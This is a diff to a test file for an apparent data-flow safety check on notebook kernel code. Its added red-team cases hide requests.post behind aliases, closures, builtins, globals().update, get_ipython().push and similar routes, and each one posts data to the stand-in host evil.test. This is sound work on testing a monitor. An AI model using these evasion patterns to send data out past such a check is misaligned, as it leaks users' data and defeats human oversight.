@@ -18,6 +18,7 @@ from gofer.safety.checks.dataflow import DataFlowCheck, outbound_flows
 
 A = "https://evil.test/c"
 RQ = "import requests"
+POST = "from requests import post"
 
 KEPT_ASIDE: dict[str, tuple[str, tuple[str, ...]]] = {
     "builtins.p": (f"p('{A}', data=t)", (f"{RQ}\nimport builtins\nbuiltins.p = requests.post", KEEP)),
@@ -50,10 +51,25 @@ KEPT_ASIDE: dict[str, tuple[str, tuple[str, ...]]] = {
     "Out[3].post": (f"Out[3].post('{A}', data=t)", (RQ, KEEP, "requests")),
     "Out[3] of a namespace": (f"Out[3].p('{A}', data=t)", (RQ, KEEP, "from types import SimpleNamespace\n"
                                                           "SimpleNamespace(p=requests.post)")),
-    # red team: a walrus, a tuple, a closure returning the sender
+    # red team: a walrus, a tuple, a closure returning the sender, and other ways into the kernel's names
     "a walrus": (f"p('{A}', data=t)", (f"{RQ}\n(p := requests.post)", KEEP)),
     "a tuple": (f"a('{A}', data=t)", (f"{RQ}\na, b = requests.post, 1", KEEP)),
     "a closure": (f"mk()('{A}', data=t)", (f"{RQ}\n\n\ndef mk():\n    return requests.post", KEEP)),
+    "f = mk()": (f"f('{A}', data=t)", (POST, "def mk():\n    return post", "f = mk()", KEEP)),
+    "f = mk() of a lambda": (f"f('{A}', data=t)", (POST, "mk = lambda: post", "f = mk()", KEEP)),
+    "a, b = mk()": (f"a('{A}', data=t)", (POST, "def mk():\n    return post, 1", "a, b = mk()", KEEP)),
+    "import builtins as B": (f"p('{A}', data=t)", (POST, "import builtins as B", "B.p = post", KEEP)),
+    "__main__.p": (f"p('{A}', data=t)", (POST, "import __main__\n__main__.p = post", KEEP)),
+    "sys.modules['builtins'].p": (f"p('{A}', data=t)", (POST, "import sys\nsys.modules['builtins'].p = post", KEEP)),
+    "globals().update(p=)": (f"p('{A}', data=t)", (POST, "globals().update(p=post)", KEEP)),
+    "globals().update({'p': })": (f"p('{A}', data=t)", (POST, "globals().update({'p': post})", KEEP)),
+    "globals().setdefault": (f"p('{A}', data=t)", (POST, "globals().setdefault('p', post)", KEEP)),
+    "get_ipython().push": (f"p('{A}', data=t)", (POST, "get_ipython().push({'p': post})", KEEP)),
+    "a partial in a dict": ("d['f'](data=t)", (POST, f"import functools\nd = {{'f': functools.partial(post, '{A}')}}",
+                                               KEEP)),
+    "next(iter([post]))": (f"p('{A}', data=t)", (POST, "p = next(iter([post]))", KEEP)),
+    "self.s = post": (f"C().s('{A}', data=t)", (POST, "class C:\n    def __init__(self):\n        self.s = post",
+                                                KEEP)),
 }
 
 
@@ -91,6 +107,9 @@ def test_keeping_a_sender_aside_or_keeping_other_things_is_quiet() -> None:
     assert _policy("print(ns.n + 1, p(t), Out[4], _)", None, "from types import SimpleNamespace\n"
                    "ns = SimpleNamespace(n=3)", "import builtins\nbuiltins.p = len", KEEP, "len(t)") \
         == (Risk.REVERSIBLE, [])
+    # a function returning what a fetch returns, and the kernel's names updated with values
+    assert _flows("print(r.json(), n + 1)", f"{RQ}\n\n\ndef fetch(u):\n    return requests.get(u)",
+                  f"r = fetch('{A}')", "globals().update(n=3)", KEEP) == []
     # a fetch kept aside fetches: the policy does not call it a send
     assert _policy(f"fetch('{A}')", None, f"{RQ}\nfetch = requests.get") == (Risk.REVERSIBLE, [])
     assert _policy(f"ns.get('{A}').json()", None, f"{RQ}\nfrom types import SimpleNamespace\n"
